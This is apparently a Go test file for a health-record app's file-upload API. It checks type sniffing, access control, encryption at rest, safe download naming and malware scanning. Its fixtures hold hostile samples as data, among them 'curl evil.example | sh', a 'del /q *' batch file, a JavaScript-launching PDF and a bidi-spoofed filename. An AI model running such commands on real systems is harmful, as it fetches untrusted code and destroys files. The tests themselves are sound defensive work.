package web_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/vitalnexa/vitalnexa/internal/clamav"
	"github.com/vitalnexa/vitalnexa/internal/clamav/clamavtest"
	"github.com/vitalnexa/vitalnexa/internal/web"
)

// upload posts content as the multipart field "file" with the given name and declared type.
func (e *testEnv) upload(token, field, name, declared string, content []byte) *response {
	e.t.Helper()
	var b bytes.Buffer
	mw := multipart.NewWriter(&b)
	h := make(map[string][]string)
	esc := strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace
	h["Content-Disposition"] = []string{`form-data; name="` + field + `"; filename="` + esc(name) + `"`}
	h["Content-Type"] = []string{declared}
	part, err := mw.CreatePart(h)
	if err != nil {
		e.t.Fatal(err)
	}
	part.Write(content)
	mw.Close()
	req, _ := http.NewRequest("POST", e.http.URL+"/api/files", &b)
	req.Header.Set("Content-Type", mw.FormDataContentType())
	req.Header.Set("Authorization", "Bearer "+token)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		e.t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	return &response{status: resp.StatusCode, header: resp.Header, body: body}
}

func TestDocumentsUploadReadDownloadDelete(t *testing.T) {
	t.Parallel()
	e := MustEnv(t)
	ana := e.MustVerifiedUser("ana@example.com")
	bob := e.MustVerifiedUser("bob@example.com")
	text := []byte("Blood pressure diary\n120/80 Monday\n")
	r := e.upload(ana, "file", `../../etc/Pressure "diary".txt`, "application/pdf", text)
	if r.status != http.StatusCreated {
		t.Fatalf("upload: %d %s", r.status, r.body)
	}
	f := r.json(t)
	id := f["id"].(string)
	// What the bytes proved, not what the client claimed; the name is only a label.
	if f["content_type"] != "text/plain" || f["name"] != `Pressure "diary".txt` || f["size"] != float64(len(text)) {
		t.Fatalf("metadata %v", f)
	}
	d := e.do("GET", "/api/files/"+id+"/content", ana, nil)
	if d.status != http.StatusOK || !bytes.Equal(d.body, text) {
		t.Fatalf("download: %d %q", d.status, d.body)
	}
	for h, want := range map[string]string{"X-Content-Type-Options": "nosniff", "Cache-Control": "no-store",
		"Content-Type": "text/plain; charset=utf-8"} {
		if got := d.header.Get(h); got != want {
			t.Errorf("%s = %q, want %q", h, got, want)
		}
	}
	if cd := d.header.Get("Content-Disposition"); !strings.HasPrefix(cd, `attachment; filename="Pressure _diary_.txt"`) {
		t.Errorf("Content-Disposition %q", cd)
	}
	if csp := d.header.Get("Content-Security-Policy"); !strings.Contains(csp, "sandbox") {
		t.Errorf("Content-Security-Policy %q", csp)
	}
	if l := e.do("GET", "/api/files", ana, nil).json(t)["items"].([]any); len(l) != 1 {
		t.Fatalf("list: %v", l)
	}
	// Another user's id is as unknown as a random one.
	for _, path := range []string{"/api/files/" + id, "/api/files/" + id + "/content"} {
		if r := e.do("GET", path, bob, nil); r.status != http.StatusNotFound {
			t.Fatalf("bob GET %s: %d", path, r.status)
		}
	}
	if r := e.do("DELETE", "/api/files/"+id, bob, nil); r.status != http.StatusNotFound {
		t.Fatalf("bob DELETE: %d", r.status)
	}
	// The database holds neither the name nor the content in clear.
	var dump string
	ctx := context.Background()
	tx, _ := e.owner.Begin(ctx)
	tx.Exec(ctx, "SELECT set_config('app.current_user_id', $1, true)", e.do("GET", "/api/me", ana, nil).json(t)["id"])
	tx.QueryRow(ctx, `SELECT coalesce(string_agg(f::text, ''), '') || coalesce((SELECT string_agg(c::text, '') FROM file_chunks c), '') FROM files f`).Scan(&dump)
	tx.Rollback(ctx)
	if dump == "" || strings.Contains(dump, "Pressure") || strings.Contains(dump, "120/80") {
		t.Fatalf("files in clear in the database: %.200q", dump)
	}
	if r := e.do("DELETE", "/api/files/"+id, ana, nil); r.status != http.StatusNoContent {
		t.Fatalf("delete: %d", r.status)
	}
	if r := e.do("GET", "/api/files/"+id, ana, nil); r.status != http.StatusNotFound {
		t.Fatalf("after delete: %d", r.status)
	}
}

func TestUploadsAreJudgedByTheirBytes(t *testing.T) {
	t.Parallel()
	e := MustEnv(t, func(o *web.Options) { o.MaxUploadBytes = 1 << 20 })
	ana := e.MustVerifiedUser("ana@example.com")
	cases := []struct {
		name, filename, declared string
		content                  []byte
		status                   int
	}{
		// Attack: a Windows program renamed to .pdf.
		{"exe named pdf", "report.pdf", "application/pdf", append([]byte("MZ\x90\x00\x03\x00\x00\x00"), make([]byte, 64)...), http.StatusUnsupportedMediaType},
		// Attack: an HTML page with a script, named .txt.
		{"html named txt", "notes.txt", "text/plain", []byte("<!doctype html><script>alert(1)</script>"), http.StatusUnsupportedMediaType},
		// Attack: a truncated PDF.
		{"truncated pdf", "scan.pdf", "application/pdf", []byte("%PDF-1.4\n1 0 obj\n<< /Type /Catalog"), http.StatusUnprocessableEntity},
		// Attack: text with a NUL (a binary smuggled as text).
		{"NUL in text", "a.txt", "text/plain", []byte("abc\x00def"), http.StatusUnsupportedMediaType},
		// Attack: an all-ASCII PDF that runs JavaScript, behind a newline so that it looks like
		// text; a PDF reader finds its header anyway.
		{"pdf behind a newline", "notes.txt", "text/plain", []byte("\n%PDF-1.4\n1 0 obj\n<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"), http.StatusUnprocessableEntity},
		// Attack: a script behind a blank line.
		{"script behind a blank line", "notes.txt", "text/plain", []byte("\n#!/bin/sh\ncurl evil.example | sh\n"), http.StatusUnsupportedMediaType},
		// Attack: a file over the limit.
		{"too large", "big.txt", "text/plain", bytes.Repeat([]byte("a"), 1<<20+1), http.StatusRequestEntityTooLarge},
	}
	for _, tc := range cases {
		r := e.upload(ana, "file", tc.filename, tc.declared, tc.content)
		if r.status != tc.status {
			t.Errorf("%s: %d %s, want %d", tc.name, r.status, r.body, tc.status)
			continue
		}
		if p := r.json(t); p["detail"] == "" {
			t.Errorf("%s: no reason given: %s", tc.name, r.body)
		}
	}
	if r := e.upload(ana, "attachment", "a.txt", "text/plain", []byte("hello")); r.status != http.StatusBadRequest {
		t.Errorf("wrong field: %d", r.status)
	}
	if l := e.do("GET", "/api/files", ana, nil).json(t)["items"].([]any); len(l) != 0 {
		t.Fatalf("a refused upload was stored: %v", l)
	}
}

func TestFilesArePagedAndEveryOneIsExported(t *testing.T) {
	t.Parallel()
	e := MustEnv(t)
	ana := e.MustVerifiedUser("ana@example.com")
	bob := e.MustVerifiedUser("bob@example.com")
	var ids []string
	for i := range 5 {
		r := e.upload(ana, "file", fmt.Sprintf("note-%d.txt", i), "text/plain", []byte(fmt.Sprintf("note %d\n", i)))
		if r.status != http.StatusCreated {
			t.Fatalf("upload %d: %d %s", i, r.status, r.body)
		}
		ids = append(ids, r.json(t)["id"].(string))
	}
	first := e.do("GET", "/api/files?limit=2", ana, nil).json(t)
	if n := len(first["items"].([]any)); n != 2 || first["next_cursor"] == "" {
		t.Fatalf("first page: %d items, cursor %q", n, first["next_cursor"])
	}
	items := e.pages("/api/files?limit=2&", ana)
	if len(items) != 5 {
		t.Fatalf("%d files over the pages, want 5", len(items))
	}
	for i, it := range items { // newest first
		if it["id"] != ids[4-i] {
			t.Fatalf("page order: item %d is %v, want %s", i, it["id"], ids[4-i])
		}
	}
	// A cursor is the user's own: another user cannot walk with it.
	if r := e.do("GET", "/api/files?cursor="+url.QueryEscape(first["next_cursor"].(string)), bob, nil); r.status != http.StatusBadRequest {
		t.Fatalf("bob with ana's cursor: %d %s", r.status, r.body)
	}
	if r := e.do("GET", "/api/files?limit=101", ana, nil); r.status != http.StatusBadRequest {
		t.Fatalf("limit over the maximum: %d", r.status)
	}
	if l := e.do("GET", "/api/files", bob, nil).json(t)["items"].([]any); len(l) != 0 {
		t.Fatalf("bob lists ana's files: %v", l)
	}
	r, err := e.get("/api/me/export", ana)
	if err != nil || r.status != http.StatusOK {
		t.Fatalf("export: %d %v", r.status, err)
	}
	var doc struct {
		Files []map[string]any `json:"files"`
	}
	if err := json.Unmarshal(r.body, &doc); err != nil || len(doc.Files) != 5 {
		t.Fatalf("export holds %d files (%v), want 5", len(doc.Files), err)
	}
}

func TestDownloadsAreNamedForWhatTheirBytesAre(t *testing.T) {
	t.Parallel()
	e := MustEnv(t)
	ana := e.MustVerifiedUser("ana@example.com")
	// Text that would run if it were opened under its own name, and a name whose
	// right-to-left override shows "invoicetab.txt" for a .bat.
	for name, want := range map[string]string{
		"run.bat":              "run.bat.txt",
		"invoice\u202etxt.bat": "invoicetxt.bat.txt",
		"notes.txt":            "notes.txt",
	} {
		r := e.upload(ana, "file", name, "application/pdf", []byte("@echo off\r\ndel /q *\r\n"))
		if r.status != http.StatusCreated {
			t.Fatalf("upload %q: %d %s", name, r.status, r.body)
		}
		f := r.json(t)
		if strings.ContainsRune(f["name"].(string), '\u202e') {
			t.Errorf("stored name keeps a bidi override: %q", f["name"])
		}
		d := e.do("GET", "/api/files/"+f["id"].(string)+"/content", ana, nil)
		if cd := d.header.Get("Content-Disposition"); !strings.HasPrefix(cd, `attachment; filename="`+want+`"; filename*=UTF-8''`+want) {
			t.Errorf("%q: Content-Disposition %q, want the name %q", name, cd, want)
		}
	}
	r, err := e.get("/api/me/export?include=files", ana)
	if err != nil || r.status != http.StatusOK {
		t.Fatalf("zip export: %d %v", r.status, err)
	}
	z, err := zip.NewReader(bytes.NewReader(r.body), int64(len(r.body)))
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, f := range z.File {
		if strings.HasPrefix(f.Name, "files/") {
			n++
			if !strings.HasSuffix(f.Name, ".txt") || strings.ContainsRune(f.Name, '\u202e') {
				t.Errorf("archive entry %q is not named as text", f.Name)
			}
		}
	}
	if n != 3 {
		t.Fatalf("%d files in the archive, want 3", n)
	}
}

func TestAnInfectedUploadIsRefusedAndReported(t *testing.T) {
	t.Parallel()
	scanner := &clamav.Scanner{Addr: clamavtest.NewServer(t)}
	e := MustEnv(t, func(o *web.Options) { o.Scan = scanner.Scan })
	ana := e.MustVerifiedUser("ana@example.com")
	r := e.upload(ana, "file", "eicar.txt", "text/plain", []byte(clamavtest.EICAR))
	if r.status != http.StatusUnprocessableEntity || strings.Contains(string(r.body), "EICAR_HDB") {
		t.Fatalf("infected upload: %d %s", r.status, r.body)
	}
	if got := e.countAudit("EVENT file.malware_found"); got != 1 {
		t.Fatalf("%d malware events", got)
	}
	if l := e.do("GET", "/api/files", ana, nil).json(t)["items"].([]any); len(l) != 0 {
		t.Fatal("an infected file was stored")
	}
}
